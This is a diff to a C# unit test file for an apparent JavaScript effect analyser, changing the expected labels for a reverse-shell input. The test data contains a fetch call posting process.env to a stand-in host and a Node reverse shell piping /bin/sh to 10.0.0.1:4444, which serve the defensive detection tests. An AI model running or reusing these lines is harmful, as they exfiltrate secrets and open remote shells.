@@ -42,7 +42,7 @@ public sealed class JavaScriptTests
     [InlineData("fetch('https://x.example', { method: 'POST', body: JSON.stringify(process.env) })", "send-data! https://x.example")]
     [InlineData("require('net').connect(4444, '10.0.0.1')", "open-socket 10.0.0.1:4444")]
     [InlineData("require('axios').delete('https://api.example/users/1')", "destroy-resource https://api.example/users/1")]
-    [InlineData("const n=require('net'),c=require('child_process'); const s=n.connect(4444,'10.0.0.1',()=>{ const sh=c.spawn('/bin/sh',[]); s.pipe(sh.stdin) })", "open-socket 10.0.0.1:4444, execute-hidden-code shell, execute a shell")]
+    [InlineData("const n=require('net'),c=require('child_process'); const s=n.connect(4444,'10.0.0.1',()=>{ const sh=c.spawn('/bin/sh',[]); s.pipe(sh.stdin) })", "open-socket 10.0.0.1:4444, execute-hidden-code shell, execute a shell, execute-hidden-code sh")]
     public void Network(string code, string effects) => Assert.Equal(effects, Of(code));
 
     [Theory]
